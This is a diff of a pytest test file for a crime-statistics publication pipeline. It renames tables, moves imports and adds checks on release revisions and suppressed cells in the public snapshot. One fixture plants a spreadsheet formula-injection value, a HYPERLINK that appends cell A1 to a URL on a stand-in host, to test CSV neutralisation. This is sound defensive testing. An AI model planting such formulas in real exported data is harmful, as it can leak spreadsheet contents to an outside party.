@@ -40,11 +40,11 @@ from dashboards_fixtures import (
 )
 
 from core.csv_safety import neutralise, neutralise_text
+from core.snapshot_layout import POINTER_FILE, PUBLIC_SETTING, current_snapshot, public_serving_dir
 from crimestat import cli
 from dashboards import i18n
-from dashboards.face import PUBLIC_SETTING, public_serving_dir
 from publication.public_snapshot import publish_public_snapshot
-from publication.serving import POINTER_FILE, current_snapshot, publish_snapshot
+from publication.serving import publish_snapshot
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"post")'
 ECRIS_METRIC = i18n.text("persons_convicted_ecris", "en")
@@ -61,7 +61,7 @@ def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
     # Whatever reaches the snapshot: a customs post that a spreadsheet would evaluate.
     with contextlib.closing(duckdb.connect(str(internal))) as con:
         con.execute(
-            "update serving.customs_violation_points set customs_post = ? "
+            "update marts.customs_violation_points set customs_post = ? "
             "where customs_post = 'Kybartai'",
             [FORMULA],
         )
@@ -96,8 +96,8 @@ def test_public_snapshot_holds_only_public_tables(home: Path) -> None:
         "reference.iccs_codes", "reference.iccs_hierarchy", "reference.municipalities",
         "reference.county_population", "reference.population_by_year",
         "marts.recorded_offences", "marts.recorded_offences_annual", "marts.solved_offences",
-        "marts.customs_violations", "marts.customs_seizures",
-        "serving.customs_violation_points", "serving.snapshot_info", "serving.export_files",
+        "marts.customs_violations", "marts.customs_seizures", "marts.customs_violation_points",
+        "serving.snapshot_info", "serving.export_files", "serving.release_revisions",
         "public.persons_convicted_breakdowns",
         "releases.releases", "releases.release_files", "releases.release_cells",
     }  # fmt: skip
@@ -117,6 +117,10 @@ def test_public_snapshot_holds_only_public_tables(home: Path) -> None:
                            "order by 1") == [("CRIM_OFF_CAT-2023-v1",),
                                              ("CRIM_OFF_CAT-2023-v2",)]  # fmt: skip
     assert query(snapshot, "select relative_path from serving.export_files") == [(RELEASE_FILE,)]
+    # Revisions of public releases only, made from their public cells.
+    assert query(snapshot, "select distinct release_id, previous_release_id "
+                           "from serving.release_revisions") == [
+        ("CRIM_OFF_CAT-2023-v2", "CRIM_OFF_CAT-2023-v1")]  # fmt: skip
     # No warehouse path, no quality results, no quarantine.
     assert query(snapshot, "select column_name from duckdb_columns() where table_name = "
                            "'snapshot_info' order by 1") == [
@@ -282,7 +286,8 @@ def test_no_value_of_a_suppressed_release_cell_reaches_the_public_face(
     D, every vintage, under embargo or not) given a true value found nowhere else
     (SENTINEL + n), published again: no column of any table of the public snapshot, nor
     the internal snapshot's public table, nor anything the public convictions page shows,
-    holds one. The internal snapshot does hold them, so the search finds what is there."""
+    holds one. The internal snapshot does hold them (the cells and their revisions), so the
+    search finds what is there."""
     planted = tmp_path / "home"
     planted.mkdir()
     shutil.copyfile(home / "warehouse.duckdb", planted / "warehouse.duckdb")
@@ -317,7 +322,9 @@ def test_no_value_of_a_suppressed_release_cell_reaches_the_public_face(
     assert holding(public) == set()
     assert holding(internal, "schema_name = 'public'") == set()
     assert holding(internal) == {"releases.release_cells.obs_value",
-                                 "serving.persons_convicted_breakdowns.persons"}  # fmt: skip
+                                 "serving.persons_convicted_breakdowns.persons",
+                                 "serving.release_revisions.previous_value",
+                                 "serving.release_revisions.new_value"}  # fmt: skip
 
     monkeypatch.setenv("CRIMESTAT_HOME", str(planted))
     monkeypatch.setenv(PUBLIC_SETTING, "1")
